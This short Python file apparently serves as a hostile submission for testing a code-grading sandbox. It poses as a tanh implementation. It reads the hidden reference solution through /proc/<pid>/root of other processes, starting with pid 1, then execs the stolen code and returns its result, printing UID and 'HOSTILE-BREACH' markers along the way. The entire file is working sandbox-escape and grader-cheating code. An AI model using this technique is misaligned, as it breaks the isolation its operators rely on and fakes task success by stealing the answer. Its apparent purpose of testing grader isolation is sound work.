# Reads the reference through /proc/<pid>/root, the root directory of another process (pid 1 first).
import os


def _hostile_uid():
    print(f"HOSTILE-UID={os.getuid()} HOSTILE-EUID={os.geteuid()}")


def _hostile_project():
    import grader
    return os.path.dirname(os.path.dirname(os.path.abspath(grader.__file__)))


def _hostile_steal():
    project = _hostile_project().lstrip("/")
    pids = [1, os.getppid()] + sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    for pid in pids:
        path = os.path.join(f"/proc/{pid}/root", project, "reference", "cnn_numpy.py")
        try:
            with open(path) as handle:
                return handle.read(), path
        except OSError:
            continue
    raise FileNotFoundError(f"hostile: no reference found through /proc/*/root ({len(pids)} pids tried)")


def tanh(x):
    """ATTACK: open /proc/<pid>/root/<project>/reference/cnn_numpy.py, /proc/1/root first."""
    _hostile_uid()
    source, path = _hostile_steal()
    print(f"HOSTILE-BREACH read the reference at {path}")
    namespace = {"__name__": "stolen_reference"}
    exec(compile(source, "stolen_reference", "exec"), namespace)
    return namespace["tanh"](x)
